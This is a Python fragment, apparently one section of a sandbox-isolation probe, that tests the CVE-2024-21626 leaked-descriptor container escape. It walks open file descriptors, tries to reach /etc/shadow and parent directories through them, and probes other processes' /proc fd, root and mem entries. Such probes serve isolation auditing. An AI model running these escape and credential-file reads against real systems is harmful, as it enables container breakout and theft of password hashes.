# 15: descriptors of somebody else, and ways through them (CVE-2024-21626).
own = {}
for name in sorted(os.listdir("/proc/self/fd"), key=int):
    try:
        own[int(name)] = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        pass  # the one that listed them
for fd, target in own.items():
    kind = target.split(":")[0]
    tell(f"descriptor {fd}", kind if fd <= 3 else f"{fd}: {target}")
    # A directory, even one that is deleted or outside, is a way out.
    for path in (".", "..", "../../../../../../../../etc/shadow"):
        attempt(f"{path} through {fd}", lambda: os.close(os.open(path, os.O_RDONLY, dir_fd=fd)))
    attempt(f"working directory through {fd}", lambda: os.chdir(f"/proc/self/fd/{fd}"))
    attempt(f"working directory up from {fd}", lambda: os.chdir(f"/proc/self/fd/{fd}/../../../.."))
for fd in range(4, 1024):
    if fd not in own and os.path.exists(f"/proc/self/fd/{fd}"):
        tell(f"descriptor {fd}", os.readlink(f"/proc/self/fd/{fd}"))
token = os.urandom(16)


def has_this_memory(pid):
    """Whether a process runs in the memory of this one, and so is no other; it must have no descriptor."""
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            memory.seek(id(token) + bytes.__basicsize__ - 1)
            return memory.read(16) == token
    except OSError:
        return False


pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
for pid in pids:
    if pid == os.getpid():
        continue
    for what in () if has_this_memory(pid) else ("fd", "cwd", "root", "exe", "mem", "map_files", "task/{0}/fd"):
        path = f"/proc/{pid}/{what.format(pid)}"

        def look():
            if what.endswith("fd") or what == "map_files":
                return os.listdir(path)
            if what == "mem":
                return os.close(os.open(path, os.O_RDWR))
            return os.readlink(path)

        attempt(f"{path}", look)
    for fd in range(16):
        attempt(f"/proc/{pid}/fd/{fd}", lambda: os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY)))
# Not closed on exec: what a program started from here would inherit.
import subprocess

listed = subprocess.run(["ls", "/proc/self/fd"], capture_output=True, text=True, close_fds=False).stdout.split()
tell("inherited by a program", "ours" if set(listed) <= {"0", "1", "2", "3", "4"} else " ".join(listed))
finish()
